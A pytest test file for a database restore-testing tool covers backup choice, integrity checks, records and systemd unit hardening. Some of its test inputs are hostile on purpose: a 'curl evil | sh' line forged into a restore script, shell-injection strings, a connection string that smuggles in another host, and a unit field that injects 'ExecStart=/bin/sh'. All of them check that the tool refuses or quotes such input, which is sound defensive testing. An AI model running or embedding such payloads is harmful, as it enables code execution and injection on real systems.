# Copyright (c) 2026, the bulwark.database authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a restore test decides: which lines it runs, which backup and moment, what an answer means, what it records."""

from __future__ import annotations

import dataclasses
import json
import random
import shlex
import subprocess
import typing as t

import pytest

from ansible_collections.bulwark.database.plugins.module_utils._core.backup_deployment import ObservedTimer
from ansible_collections.bulwark.database.plugins.module_utils._core.backup_job_file import (
    BackupJob,
    MariaDBPlace,
    PostgreSQLPlace,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.backup_manifest import (
    Contents,
    SealedFile,
    Sidecar,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.backup_moments import (
    parse_moment,
    render_id,
    render_moment,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.backup_restore_text import (
    CHECK_LINE,
    is_as_rendered,
    render_restore_text,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.backup_status import Run
from ansible_collections.bulwark.database.plugins.module_utils._core.errors import (
    DidNotTakeEffect,
    InvalidDeclaration,
    RefusedForSafety,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.observations import RestoreProof
from ansible_collections.bulwark.database.plugins.module_utils._core.pgbackrest import Repository
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_proofs import proof_of_another
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_script import (
    engine_of,
    job_of,
    render_script,
    telling_line,
    value_of,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_checks import (
    READ_UP_TO,
    Counted,
    Restored,
    binary_log_read,
    judge_binary_log,
    judge_counts,
    judge_integrity,
    judge_loss,
    judge_query,
    judge_recovery,
    judge_time,
    loss_between,
    not_made,
    parse_counts,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_choice import (
    choose,
    complaints,
    loss_objective,
    newest_moment,
    tools_needed,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_file import (
    Query,
    RestoreTest,
    parse_restore_test,
    render_restore_test,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_record import (
    Findings,
    counts_before,
    describe_status,
    failed_check,
    outcome_line,
    render_record,
    sha256_of,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_units import (
    Deployment,
    files_of,
    plan_absent,
    plan_present,
    render_units,
)
from ansible_collections.bulwark.database.plugins.module_utils._core.restore_test_units import (
    test_file as file_of_test,
)
from sample_backups import full, segment

RUNNING = ObservedTimer(enabled=True, active=True)
STORES = ["/var/backups/bulwark/main", '/srv/it\'s a "store" $HOME; `id`']
TEST = RestoreTest(
    name="shop",
    engine="postgresql",
    source="/srv/backups/shop",
    identity="/etc/bulwark/restore-test/identity.txt",
    signing_key="/etc/bulwark/restore-test/signing_key",
    state="/var/lib/bulwark/restore-test/shop",
    scratch="/var/lib/bulwark/restore-scratch",
    binaries="",
    administrator="postgres",
    with_older=True,
    extended_check=True,
    queries=(Query("orders", "shop", "SELECT 1", "1"),),
    rto_seconds=3600,
    rpo_seconds=900,
    deadline_seconds=7200,
)


def restore_text(engine: str, store: str = STORES[0], key_file: str = "") -> str:
    place: PostgreSQLPlace | MariaDBPlace = PostgreSQLPlace("/run", 5432, "b", "/usr/lib/postgresql/15/bin", "/data")
    if engine == "mariadb":
        place = MariaDBPlace("/run/s", "b", "/etc/mysql/my.cnf", "/var/lib/mysql")
    job = BackupJob("main", engine, store, "/s", "", ("age1x",), 7, 1, 60, 1, 0.5, place)
    if engine == "pgbackrest":
        job = dataclasses.replace(job, repository=Repository("/etc/bulwark/backup/main.pgbackrest"))
    return render_restore_text(job, key_file=key_file)


TEXTS = [("postgresql", ""), ("pgbackrest", ""), ("mariadb", ""), ("mariadb", "/etc/my key's")]


@pytest.mark.parametrize("store", STORES)
@pytest.mark.parametrize(("engine", "key_file"), TEXTS)
def test_a_text_of_ours_is_known_and_every_other_is_refused(engine: str, store: str, key_file: str) -> None:
    text = restore_text(engine, store, key_file)
    assert engine_of(text) == engine
    assert job_of(text) == "main"
    assert value_of(text, "STORE") == store
    chance = random.Random(4)
    for dummy in range(60):
        place = chance.randrange(len(text))
        other = chr((ord(text[place]) + chance.randrange(1, 90)) % 127)
        with pytest.raises(RefusedForSafety):
            engine_of(f"{text[:place]}{other}{text[place + 1 :]}")


@pytest.mark.parametrize("engine", ["postgresql", "pgbackrest", "mariadb"])
def test_a_forged_text_with_a_right_checksum_is_refused(engine: str) -> None:
    body = restore_text(engine).partition(f"\n{CHECK_LINE}")[0].replace("## 2 ", "    curl evil | sh\n\n## 2 ")
    text = f"{body}\n{CHECK_LINE}{sha256_of(body)}\n"
    assert is_as_rendered(text)
    with pytest.raises(RefusedForSafety):
        render_script(text, {})


@pytest.mark.parametrize("value", ["/srv/plain", 'it\'s $HOME; `id` "x" \\1'])
def test_values_reach_the_shell_as_they_are_and_no_other_line_changes(value: str) -> None:
    names = {"STORE": value, "IDENTITY": value, "DATA": value, "MOMENT": "2026-11-25T10:30:00Z"}
    script = render_script(restore_text("postgresql"), names)
    head, mark, dummy = script.partition("SET=''")
    assert mark
    shown = "\n".join(f'printf "%s\\n" "${name}"' for name in names)
    said = subprocess.run(["sh", "-e", "-c", f"{head}{shown}"], check=True, capture_output=True, text=True).stdout
    assert said.splitlines() == list(names.values())
    plain = render_script(restore_text("postgresql"), {})
    differing = [(one, other) for one, other in zip(plain.splitlines(), script.splitlines()) if one != other]
    assert [other for dummy_one, other in differing] == [f"{name}={shlex.quote(names[name])}" for name in names]


def test_a_value_that_the_text_does_not_ask_for_is_refused() -> None:
    with pytest.raises(RefusedForSafety, match="asks for no ACCOUNT"):
        render_script(restore_text("postgresql"), {"ACCOUNT": "mysql"})


def the_first(count: int) -> int:
    assert count > 0
    return 0


def the_last(count: int) -> int:
    return count - 1


def contents(*, gap: bool = False, damaged: tuple[str, ...] = ()) -> Contents:
    manifests = (full(1000, start=1), full(2000, start=11))
    segments = [segment(number, 1000 + number * 100) for number in range(1, 31) if not (gap and number == 20)]
    return Contents(manifests, tuple(segments), damaged)


def test_the_newest_set_is_chosen_and_an_older_one_only_if_that_is_wanted() -> None:
    (newest,) = choose(contents(), with_older=False, chance=the_first)
    assert newest.manifest.finished == render_moment(2000)
    both = choose(contents(), with_older=True, chance=the_last)
    assert [choice.manifest.finished for choice in both] == [render_moment(2000), render_moment(1000)]


def test_where_there_is_no_older_set_it_is_no_failure_that_one_is_wanted() -> None:
    only = dataclasses.replace(contents(), manifests=contents().manifests[1:])
    (newest,) = choose(only, with_older=True, chance=the_last)
    assert newest.manifest.finished == render_moment(2000)


def test_a_moment_lies_where_restore_txt_takes_the_chosen_set() -> None:
    """From the set's own end to before the next set's, or to the end of the log."""
    first = choose(contents(), with_older=True, chance=the_first)
    last = choose(contents(), with_older=True, chance=the_last)
    assert [parse_moment(choice.moment) for choice in first] == [2000, 1000]
    assert [choice.moment for choice in last] == [newest_moment(contents()), render_moment(1999)]


def test_sets_that_build_upon_one_another_are_in_the_order_in_which_they_were_made() -> None:
    """A differential set and an incremental one of the full set before them, as pgBackRest calls them."""
    labels = ("20261130-000000F", "20261130-000000F_20261130-060000I", "20261130-000000F_20261130-120000D")
    sets = [
        dataclasses.replace(full(1000 * number, start=number * 5), id=label, files=(SealedFile(label, 1, "", 1),))
        for number, label in enumerate(labels, 1)
    ]
    segments = tuple(segment(number, number * 200 + 1) for number in range(5, 31))
    found = Contents((sets[2], sets[0], sets[1]), segments, ())
    for chance in (the_first, the_last):
        newest, older = choose(found, with_older=True, chance=chance)
        assert newest.manifest.id == labels[2]
        assert older.manifest.id in labels[:2]
        assert parse_moment(older.moment) < parse_moment(sets[labels.index(older.manifest.id) + 1].consistent_from)
    assert tools_needed(found, sets[2]) == ["age"]


def test_a_set_of_mariadb_is_restored_to_its_own_end() -> None:
    only = Contents((full(1000, engine="mariadb"), full(2000, engine="mariadb")), (), ())
    both = choose(only, with_older=True, chance=the_last)
    assert [choice.moment for choice in both] == [render_moment(2000), render_moment(1000)]
    assert newest_moment(only) == render_moment(2000)


def test_what_opens_a_set_and_the_log_after_it_is_known_before_anything_is_restored() -> None:
    """A job was moved from age to GnuPG in the middle of its first set's log."""
    manifests = (full(1000, start=1), full(2000, start=11, sealing="gnupg"))
    segments = [
        segment(number, 1000 + number * 100, sealing="age" if number < 5 else "gnupg") for number in range(1, 31)
    ]
    moved = Contents(manifests, tuple(segments), ())
    assert [tools_needed(moved, manifest) for manifest in manifests] == [["age", "gnupg"], ["gnupg"]]
    assert tools_needed(contents(), full(2000)) == ["age"]


@pytest.mark.parametrize(
    ("identities", "opens"),
    [
        ({"identity": "/a"}, {"age": "/a"}),
        ({"identity": "", "gnupg_identity": "/g"}, {"gnupg": "/g"}),
        ({"identity": "/a", "gnupg_identity": "/g"}, {"age": "/a", "gnupg": "/g"}),
    ],
)
def test_a_test_opens_what_it_has_secret_keys_for(identities: dict[str, str], opens: dict[str, str]) -> None:
    entry = {**json.loads(render_restore_test(TEST)), "gnupg_identity": "", **identities}
    assert parse_restore_test(json.dumps(entry), where="it").opens == opens


def test_a_test_without_any_secret_key_is_refused() -> None:
    entry = {**json.loads(render_restore_test(TEST)), "identity": ""}
    with pytest.raises(InvalidDeclaration, match="names no secret key that opens backups"):
        parse_restore_test(json.dumps(entry), where="it")


def test_a_test_of_pgbackrest_opens_the_passphrase_by_age_and_ends_with_a_server_of_postgresql() -> None:
    entry = {**json.loads(render_restore_test(TEST)), "engine": "pgbackrest"}
    assert parse_restore_test(json.dumps(entry), where="it").server == "postgresql"
    with pytest.raises(InvalidDeclaration, match="names no identity of age"):
        parse_restore_test(json.dumps({**entry, "identity": "", "gnupg_identity": "/g"}), where="it")
    without = [{"name": "q", "query": "SELECT 1", "minimum": 1}]
    with pytest.raises(InvalidDeclaration, match="lacks database"):
        parse_restore_test(json.dumps({**entry, "queries": without}), where="it")


def test_an_empty_source_is_a_failure() -> None:
    with pytest.raises(DidNotTakeEffect, match="no full backup"):
        choose(Contents((), (), ()), with_older=True, chance=the_first)
    assert newest_moment(Contents((), (), ())) == ""


def test_gaps_and_damage_are_complained_about() -> None:
    assert complaints(contents()) == []
    assert "gap of 1 segments" in complaints(contents(gap=True))[0]
    assert complaints(contents(damaged=("x is not what was written",))) == ["x is not what was written"]


@pytest.mark.parametrize(
    ("status", "output", "passed"),
    [
        (0, "", True),
        (2, "heap table: item is broken", False),
        (0, "shop.orders\nerror    : Corrupt", False),
        (0, "shop.orders\nError    : Table is marked as crashed", False),
        (0, "shop.error_log  OK", True),
    ],
)
def test_damage_is_seen_in_status_and_words(status: int, output: str, passed: bool) -> None:
    assert judge_integrity("mariadb-check", status, output).passed is passed


@pytest.mark.parametrize(
    ("answer", "minimum", "passed"),
    [
        ("5\n", "5", True),
        ("4\n", "5", False),
        ("SET\n\n 7.5 \n", "7.5", True),
        ("", "0", False),
        ("many", "0", False),
        ("NULL", "0", False),
        ("NaN", "0", False),
        ("99999999999999999999", "99999999999999999998.5", True),
    ],
)
def test_an_answer_passes_only_as_a_number_that_is_enough(answer: str, minimum: str, passed: bool) -> None:
    assert judge_query(Query("orders", "shop", "SELECT 1", minimum), answer).passed is passed


CHAIN = render_id(990)


def binary_log(number: int, opened: int, closed: int, *, chain: str = CHAIN) -> Sidecar:
    name = f"{chain}-{number:06d}"
    moments = (render_moment(closed), render_moment(closed))
    return Sidecar(name, 1000, "cd" * 32, "ef" * 32, 2000, *moments, opened=render_moment(opened))


# Between the second and the third log nothing was written: no log covers 1250, and the second is as far as there is.
LOGS = [binary_log(5, 995, 1100), binary_log(6, 1100, 1200), binary_log(7, 1300, 1400)]


@pytest.mark.parametrize(
    ("said", "moment", "passed", "words"),
    [
        (f"{CHAIN}-000006", 1150, True, f"{CHAIN}-000006, opened {render_moment(1100)}, closed {render_moment(1200)}"),
        (f"{CHAIN}-000006", 1250, True, "closed"),
        (f"{CHAIN}-000007", 1400, True, "closed"),
        (f"{CHAIN}-000005", 1150, False, f"up to {CHAIN}-000005, closed {render_moment(1100)}, which is before"),
        (f"{CHAIN}-000006", 1350, False, "which is before"),
        (f"{CHAIN}-000007", 1150, False, f"{CHAIN}-000007 began after"),
        (f"{CHAIN}-000007", 1401, False, "which is before"),
        (f"{CHAIN}-000004", 1000, False, "is none of those that lead on from the set"),
        (f"{render_id(1200)}-000006", 1150, False, "is none of those that lead on from the set"),
        ("", 1150, False, "no binary log was read"),
        (None, 1150, False, "RESTORE.txt did not say how far it read"),
    ],
)
def test_the_binary_logs_that_were_read_have_to_cover_the_moment(
    said: str | None, moment: int, passed: bool, words: str
) -> None:
    position = {"binlog_file": "mariadb-bin.000005", "binlog_position": 400}
    manifest = dataclasses.replace(full(1000, engine="mariadb"), position=position)
    lines = "set: x\n" if said is None else f"set: x\nread up to the binary log: {said}\n11.8\n"
    check = judge_binary_log(lines, manifest, LOGS, render_moment(moment))
    assert check.passed is passed
    assert words in check.detail


def test_a_set_without_binary_logs_is_its_own_moment_and_no_other() -> None:
    alone = full(1000, engine="mariadb")
    said = "read up to the binary log: \n"
    assert judge_binary_log(said, alone, [], render_moment(1000)).passed
    assert not judge_binary_log(said, alone, [], render_moment(1001)).passed


def test_restore_txt_says_how_far_it_read_as_it_is_understood() -> None:
    assert f'echo "{READ_UP_TO}$LAST"' in restore_text("mariadb")
    assert binary_log_read(f"x\n{READ_UP_TO}{CHAIN}-000005\n") == f"{CHAIN}-000005"


WERE = {"shop": Counted(10, 1000), "empty": Counted(0, 0)}


@pytest.mark.parametrize(
    ("found", "share", "failures"),
    [
        (WERE, 0.5, {}),
        ({"shop": Counted(5, 500), "new": Counted(3, 0)}, 0.5, {}),  # half is there yet; a database without tables went
        ({"shop": Counted(4, 900)}, 0.5, {"rows of shop": "4 tables hold 900 rows; there were 10 tables"}),
        (
            {"shop": Counted(0, 0)},
            0.5,
            {"rows of shop": "0 tables hold 0 rows; there were 10 tables", "rows": "0 rows"},
        ),
        ({"shop": Counted(10, 499)}, 0.5, {"rows": "499 rows of all databases; there were 1000"}),
        ({"shop": Counted(10, 499)}, 0.4, {}),
        ({"other": Counted(10, 1000)}, 0.5, {"rows of shop": "it is gone; there were 10 tables"}),
        ({}, 0.0, {}),
    ],
)
def test_tables_and_rows_are_held_against_those_of_the_earlier_record(
    found: dict[str, Counted], share: float, failures: dict[str, str]
) -> None:
    checks = judge_counts(found, WERE, smallest_share=share)
    failed = {check.name: check.detail for check in checks if not check.passed}
    assert set(failed) == set(failures)
    for name, words in failures.items():
        assert words in failed[name]


def test_without_an_earlier_record_rows_are_counted_and_it_is_said_that_they_are_not_judged() -> None:
    (one, total) = judge_counts({"shop": parse_counts("5\n7\n")}, {}, smallest_share=0.5)
    assert (one.passed, one.detail) == (True, "2 tables hold 12 rows")
    assert (total.passed, total.detail) == (True, "12 rows of all databases; no earlier record to hold them against")


def test_a_database_that_could_not_be_counted_is_not_called_gone() -> None:
    checks = judge_counts({"shop": None}, WERE, smallest_share=0.5)
    assert [check.name for check in checks] == []


def test_an_older_backup_is_held_against_what_there_was_by_then() -> None:
    """The latest success whose moment is not later: a failure, another engine and a later moment are none."""

    def record(moment: int, rows: int, **changes: t.Any) -> dict[str, t.Any]:
        counts = {"shop": {"tables": 1, "rows": rows}}
        return {
            "outcome": "success",
            "engine": "postgresql",
            "moment": render_moment(moment),
            "rows": counts,
            **changes,
        }

    records = [
        record(1000, 1),
        record(3000, 3),
        record(2000, 2),
        record(2500, 9, outcome="failure"),
        record(2600, 9, engine="mariadb"),
        {"outcome": "success", "engine": "postgresql", "moment": render_moment(2700)},  # of an earlier version
    ]
    assert counts_before(TEST, records, render_moment(2800)) == {"shop": Counted(1, 2)}
    assert counts_before(TEST, records, render_moment(3000)) == {"shop": Counted(1, 3)}
    assert counts_before(TEST, records, render_moment(999)) == {}


def test_a_record_has_the_rows_that_a_later_one_is_held_against() -> None:
    findings = Findings(1000.0, full(900), moment=render_moment(950), counts={"shop": Counted(2, 7), "broken": None})
    record = json.loads(render_record(TEST, findings, host="restorer", finished=1010.0, error="", previous=""))
    assert counts_before(TEST, [record], render_moment(960)) == {"shop": Counted(2, 7)}


def test_a_recovery_that_did_not_end_or_went_too_far_fails() -> None:
    moment = "2026-11-25T10:30:00Z"
    assert judge_recovery("f\n", "2026-11-25T10:30:00.000000Z\n", moment).passed
    assert judge_recovery("f\n", "\n", moment).passed
    assert not judge_recovery("t\n", "2026-11-25T10:29:59.000000Z\n", moment).passed
    assert not judge_recovery("f\n", "2026-11-25T10:30:01.000000Z\n", moment).passed


def test_times_are_held_against_their_objectives() -> None:
    assert judge_time(60.0, 60).passed
    assert not judge_time(60.1, 60).passed
    assert judge_loss(900, 900).passed
    assert not judge_loss(901, 900).passed
    assert loss_between(render_moment(1000), 1900.5) == 900.5
    assert loss_between(render_moment(2000), 1900.0) == 0


@pytest.mark.parametrize(
    ("engine", "stated", "logs", "objective"),
    [
        ("postgresql", 0, [], 900),
        ("pgbackrest", 0, [], 900),
        ("mariadb", 0, LOGS, 900),  # a stream that stopped is told in a quarter of an hour, not in a day
        ("mariadb", 0, [], 90000),
        ("mariadb", 60, [], 60),
        ("postgresql", 86400, LOGS, 86400),
    ],
)
def test_how_far_back_the_newest_moment_may_lie_follows_from_what_the_source_holds(
    engine: str, stated: int, logs: list[Sidecar], objective: int
) -> None:
    test = dataclasses.replace(TEST, engine=engine, rpo_seconds=stated)
    assert parse_restore_test(render_restore_test(test), where="it") == test
    assert loss_objective(test, Contents((), tuple(logs), ())) == objective


def test_the_record_and_the_status_have_the_objective_that_was_decided() -> None:
    undecided = dataclasses.replace(TEST, rpo_seconds=0)
    findings = Findings(1000.0, rpo_seconds=900)
    record = json.loads(render_record(undecided, findings, host="h", finished=1010.0, error="", previous=""))
    assert record["rpo_seconds"] == 900
    assert describe_status(undecided, [], record)["rpo_seconds"] == 900
    assert describe_status(undecided, [], {})["rpo_seconds"] == 0


def test_what_a_database_is_called_names_no_other_server() -> None:
    login = Restored("postgresql", "/scratch/it's", "/bin").client("x' host='evil")[-1]
    assert login == r"host='/scratch/it\'s' port='5432' user='postgres' dbname='x\' host=\'evil'"


def test_the_file_is_read_as_it_was_written() -> None:
    assert parse_restore_test(render_restore_test(TEST), where="x") == TEST


@pytest.mark.parametrize(
    ("changes", "complaint"),
    [
        ({"format": 2}, "format"),
        ({"engine": "oracle"}, "engine"),
        ({"source": "backups"}, "source"),
        ({"source": "/srv/a b"}, "source"),
        ({"scratch": "/srv/../etc"}, "scratch"),
        ({"name": "Shop"}, "name"),
        ({"rto_seconds": 0}, "rto_seconds"),
        ({"smallest_share": 1}, "smallest_share"),
        ({"smallest_share": "half"}, "smallest_share"),
        ({"administrator": "a' b"}, "administrator"),
        ({"queries": [{"name": "q", "database": "d", "query": "SELECT 1", "minimum": "many"}]}, "minimum"),
        ({"queries": [{"name": "q", "query": "SELECT 1", "minimum": 1}]}, "lacks database"),
        ({"cluster": "shop"}, "cluster is of no use with the engine postgresql"),
        ({"cluster": "Shop", "engine": "mariadb"}, "cluster can't be 'Shop'"),
        ({"surprise": 1}, "surprise"),
    ],
)
def test_a_file_that_is_wrong_is_refused_with_the_name_of_the_field(changes: dict[str, t.Any], complaint: str) -> None:
    text = json.dumps({**json.loads(render_restore_test(TEST)), **changes})
    with pytest.raises(InvalidDeclaration, match=complaint):
        parse_restore_test(text, where="x")


def test_a_record_of_a_failure_has_what_was_found_before_it() -> None:
    findings = Findings(1000.0, full(900), moment=render_moment(950), newest_moment=render_moment(990))
    findings.checks.append(judge_time(5, 3))
    text = render_record(TEST, findings, host="restorer", finished=1010.0, error="too slow", previous="ab")
    record = json.loads(text)
    assert [record["outcome"], record["error"], record["moment"]] == ["failure", "too slow", render_moment(950)]
    assert record["backup"]["id"] == full(900).id
    assert record["checks"] == [
        {
            "name": "recovery time",
            "passed": False,
            "detail": "5.0 s, 3 s are allowed (RTO): the recovery took too long",
            "made": True,
        }
    ]
    assert record["previous_sha256"] == "ab"
    assert "SELECT" not in text


def test_a_check_that_was_not_made_is_no_failure_and_not_counted_and_is_named() -> None:
    findings = Findings(1000.0, full(900), moment=render_moment(950), recovery_seconds=2.0)
    findings.checks += [judge_time(2, 3), not_made("pg_amcheck", "/bin/pg_amcheck is not installed here")]
    assert failed_check(findings) is None
    assert outcome_line(findings) == (
        f"{full(900).id} is restorable: 2.0 s, 1 checks passed;"
        " not made: pg_amcheck (/bin/pg_amcheck is not installed here)"
    )
    record = json.loads(render_record(TEST, findings, host="restorer", finished=1010.0, error="", previous=""))
    assert [(check["passed"], check["made"]) for check in record["checks"]] == [(True, True), (False, False)]
    assert describe_status(TEST, [], record)["not_made"] == ["pg_amcheck"]
    assert describe_status(TEST, [], {})["not_made"] == []


def test_the_status_says_when_it_last_went_well_and_what_is_wrong_now() -> None:
    good = Run("restore test", render_moment(1), render_moment(2), 1.0, "success")
    bad = Run("restore test", render_moment(3), render_moment(4), 1.0, "failure", "broken")
    assert describe_status(TEST, [good], {})["last_error"] is None
    found = describe_status(TEST, [good, bad], {"outcome": "failure", "backup": None})
    assert [found["last_success"], found["last_failure"], found["last_error"]] == [
        render_moment(2),
        render_moment(4),
        "broken",
    ]
    assert describe_status(TEST, [], {})["last_success"] is None


def test_who_left_it_to_another_node_neither_failed_nor_succeeded() -> None:
    good = Run("restore test", render_moment(1), render_moment(2), 1.0, "success")
    aside = Run("restore test", render_moment(3), render_moment(4), 1.0, "aside")
    found = describe_status(TEST, [good, aside], {"outcome": "aside", "backup": None})
    assert [found["last_success"], found["last_aside"]] == [render_moment(2), render_moment(4)]
    assert [found["last_failure"], found["last_error"]] == [None, None]


def proof(name: str, **changes: t.Any) -> RestoreProof:
    sound = RestoreProof(name, "restorer", 3600.0, True, "", True, "20261127T000000Z", frozenset(), "restored it")
    return dataclasses.replace(sound, **changes)


def test_a_node_s_test_stands_aside_for_a_fresh_signed_success_alone() -> None:
    old, failed = proof("node2", age=9 * 86400.0), proof("node3", succeeded=False, error="broken")
    unsigned = proof("node4", signature_valid=False)
    aside = proof("node5", succeeded=False, backup="")
    sound = proof("node6")
    assert proof_of_another([old, failed, unsigned, aside, sound], cluster="shop") is sound
    for useless, complaint in (
        ((old, failed), "node2: the last restore test was 9 days ago"),
        ((failed,), "node3: the restore test of 20261127T000000Z failed: broken"),
        ((unsigned,), "node4: the record of the restore test of 20261127T000000Z has no valid signature"),
        ((aside, aside), "none has restored any"),
        ((), "none has restored any"),
    ):
        with pytest.raises(DidNotTakeEffect, match="of the cluster shop proves one") as refused:
            proof_of_another(useless, cluster="shop")
        assert f"({complaint})" in str(refused.value)


def test_a_restored_server_has_no_network_and_only_the_pull_does() -> None:
    deployment = Deployment(TEST, "*-*-* 03:00:00", pull_command=("/usr/bin/rsync", "--rsh=ssh -i $HOME/%k", 'a"b'))
    units = render_units(deployment)
    service, pull = units["bulwark-restore-test-shop.service"], units["bulwark-restore-test-shop-pull.service"]
    assert "PrivateNetwork=yes" in service
    assert "PrivateNetwork" not in pull
    assert f"InaccessiblePaths={TEST.identity} {TEST.signing_key} -{TEST.scratch}\n" in pull
    assert r'ExecStart="/usr/bin/rsync" "--rsh=ssh -i $$HOME/%%k" "a\"b"' in pull
    assert "ExecStopPost=" in service
    assert "Wants=bulwark-restore-test-shop-pull.service" in service
    in_memory = render_units(Deployment(TEST, "daily", scratch_size="4G"))["bulwark-restore-test-shop.service"]
    assert f"TemporaryFileSystem={TEST.scratch}:size=4G" in in_memory
    assert f"ReadWritePaths={TEST.scratch}\n" not in in_memory


@pytest.mark.parametrize(
    "changes",
    [
        {"calendar": ""},
        {"calendar": "daily\nExecStart=/bin/sh"},
        {"scratch_size": "much"},
        {"randomized_delay": -1},
        {"on_failure": ("a b.service",)},
        {"pull_command": ("rsync",)},
        {"pull_command": ("/usr/bin/rsync", "a\nb")},
    ],
)
def test_what_can_not_stand_in_a_unit_is_refused(changes: dict[str, t.Any]) -> None:
    with pytest.raises(InvalidDeclaration):
        Deployment(**{"test": TEST, "calendar": "daily", **changes})


def test_a_plan_that_was_carried_out_is_empty_and_what_is_not_wanted_any_more_goes() -> None:
    pulled = Deployment(TEST, "daily", pull_command=("/usr/bin/rsync",))
    found = {item.path: item for item in files_of(pulled, b"program")}
    timers = {"bulwark-restore-test-shop.timer": RUNNING}
    assert not plan_present(pulled, b"program", found, timers)
    assert [change.subject for change in plan_present(pulled, b"newer", found, timers)] == [
        "file /usr/local/lib/bulwark/bulwark-restore-test.pyz"
    ]
    subjects = [change.subject for change in plan_present(Deployment(TEST, "daily"), b"program", found, timers)]
    assert "file /etc/systemd/system/bulwark-restore-test-shop-pull.service" in subjects
    gone = [change.subject for change in plan_absent(found, timers)]
    assert gone[0] == "timer bulwark-restore-test-shop.timer"
    assert f"file {file_of_test('shop')}" in gone
    assert not any("pyz" in subject for subject in gone)
    stopped = {"bulwark-restore-test-shop.timer": dataclasses.replace(RUNNING, active=False)}
    assert [change.subject for change in plan_present(pulled, b"program", found, stopped)] == [
        "timer bulwark-restore-test-shop.timer"
    ]


def test_a_test_without_a_timer_is_started_by_nobody_and_a_timer_that_there_is_ends_before_it_goes() -> None:
    scheduled, by_hand = Deployment(TEST, "daily"), Deployment(TEST, "daily", timer=False)
    name = "bulwark-restore-test-shop.timer"
    assert set(render_units(by_hand)) == {"bulwark-restore-test-shop.service"}
    found = {item.path: item for item in files_of(scheduled, b"program")}
    subjects = [change.subject for change in plan_present(by_hand, b"program", found, {name: RUNNING})]
    assert subjects == [f"timer {name}", f"file /etc/systemd/system/{name}"]
    (ends, dummy) = plan_present(by_hand, b"program", found, {name: RUNNING})
    assert ends.after == "disabled, inactive"
    done = {item.path: item for item in files_of(by_hand, b"program")}
    assert not plan_present(by_hand, b"program", done, {})
    back = [change.subject for change in plan_present(scheduled, b"program", done, {})]
    assert back == [f"file /etc/systemd/system/{name}", f"timer {name}"]


_NO_KEY = """age: error: no identity matched any of the recipients
age: report unexpected or unhelpful errors at https://example.org
tar: This does not look like a tar archive
tar: Exiting with failure status due to previous errors
"""


_RETRIED = """ERROR: [029]: raised from local-1 protocol: zst error: [-20] Data corruption detected
       [FormatError] on retry after 0ms
       [FormatError] on retry after 15000ms
"""


@pytest.mark.parametrize(
    ("said", "telling"),
    [
        (
            _NO_KEY,
            "age: error: no identity matched any of the recipients",
        ),
        (
            "gpg: decryption failed: No secret key\nzstd: unexpected end of file\ntar: Child returned status 1\n",
            "gpg: decryption failed: No secret key",
        ),
        ("waiting\nFATAL:  could not access the log\nstopped waiting\n", "FATAL:  could not access the log"),
        ("first\nsecond\n\n", "second"),
        ("set: not found\n", ""),
        (
            _RETRIED,
            "ERROR: [029]: raised from local-1 protocol: zst error: [-20] Data corruption detected",
        ),
    ],
)
def test_the_line_that_tells_why_is_the_cause_and_not_what_came_of_it(said: str, telling: str) -> None:
    assert telling_line(said) == telling


def test_a_pull_sees_no_secret_key_of_gnupg_either() -> None:
    by_gnupg = dataclasses.replace(TEST, identity="", gnupg_identity="/etc/secret.asc")
    units = render_units(Deployment(by_gnupg, "daily", pull_command=("/usr/bin/rsync",)))
    pull = units["bulwark-restore-test-shop-pull.service"]
    assert f"InaccessiblePaths=/etc/secret.asc {TEST.signing_key} -{TEST.scratch}\n" in pull


def test_a_pull_sees_neither_the_keys_of_tables_nor_what_another_test_restores() -> None:
    keys = (("/etc/mysql/keys.enc", "/etc/bulwark/k/keys.enc"), ("/etc/mysql/passphrase", "/etc/bulwark/k/passphrase"))
    units = render_units(Deployment(TEST, "daily", pull_command=("/usr/bin/rsync",), key_files=keys))
    (line,) = [
        line for line in units["bulwark-restore-test-shop-pull.service"].splitlines() if "InaccessiblePaths" in line
    ]
    # A dash: the folder is in memory of the test alone, or the keys are yet to be brought.
    hidden = line.partition("=")[2].split()
    assert {"-/etc/bulwark/k/keys.enc", "-/etc/bulwark/k/passphrase", f"-{TEST.scratch}"} <= set(hidden)


def test_a_pull_looks_into_no_test_of_the_same_account_by_proc() -> None:
    """The kernel refuses it to a process that lacks a capability which the other one has."""
    units = render_units(Deployment(TEST, "daily", pull_command=("/usr/bin/rsync",)))
    assert "AmbientCapabilities=CAP_NET_BIND_SERVICE\n" in units["bulwark-restore-test-shop.service"]
    pull = units["bulwark-restore-test-shop-pull.service"]
    assert "CapabilityBoundingSet=\nAmbientCapabilities=\n" in pull
